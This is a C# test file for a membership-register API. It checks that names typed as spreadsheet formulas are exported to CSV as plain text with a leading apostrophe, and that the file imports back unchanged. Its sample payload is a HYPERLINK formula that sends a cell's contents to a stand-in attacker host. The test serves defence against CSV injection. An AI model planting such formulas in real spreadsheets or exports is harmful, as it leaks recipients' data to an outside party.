using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;

namespace Federation.Security.Tests;

/// <summary>Issue 15, item 8: a name typed as a formula stays text in the board's spreadsheet, and the file reads back unchanged.</summary>
public sealed class CsvInjectionTests
{
    private const string Formula = "=HYPERLINK(\"https://angripare.example/?d=\"&A2;\"Klicka\")";

    [Fact]
    public async Task A_formula_name_is_exported_as_text_and_imported_back_as_typed()
    {
        await using var host = await TestHost.Start();
        var board = host.Client(await host.TokenFor("styrelse@solna.test", "solna", "board"));
        var created = await board.PostAsJsonAsync("/api/associations/solna/members", new
        {
            memberNumber = "F-1", firstName = Formula, lastName = "@SUM(1+1)", email = "f1@exempel.se", joinedOn = "2024-03-01", phone = "+46701234567",
        });
        created.StatusCode.ShouldBe(HttpStatusCode.Created);
        var id = (await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();

        var csv = await board.GetStringAsync("/api/associations/solna/members/export.csv");
        var row = csv.Split('\n').Single(l => l.StartsWith("F-1;", StringComparison.Ordinal));
        row.ShouldContain("\"'=HYPERLINK(");
        row.ShouldContain(";'@SUM(1+1);");
        row.ShouldContain(";'+46701234567;");
        foreach (var cell in row.Split(';')) cell.TrimStart('"').ShouldNotStartWith("=");

        // Importing the exported file changes nothing: the apostrophes come off again.
        using var content = new ByteArrayContent(Encoding.UTF8.GetBytes(csv));
        var import = await board.PostAsync("/api/associations/solna/members/import", content);
        import.StatusCode.ShouldBe(HttpStatusCode.OK, await import.Content.ReadAsStringAsync());
        var member = JsonDocument.Parse(await board.GetStringAsync($"/api/associations/solna/members/{id}")).RootElement
            .GetProperty("register");
        (member.GetProperty("firstName").GetString(), member.GetProperty("lastName").GetString()).ShouldBe((Formula, "@SUM(1+1)"));
    }
}
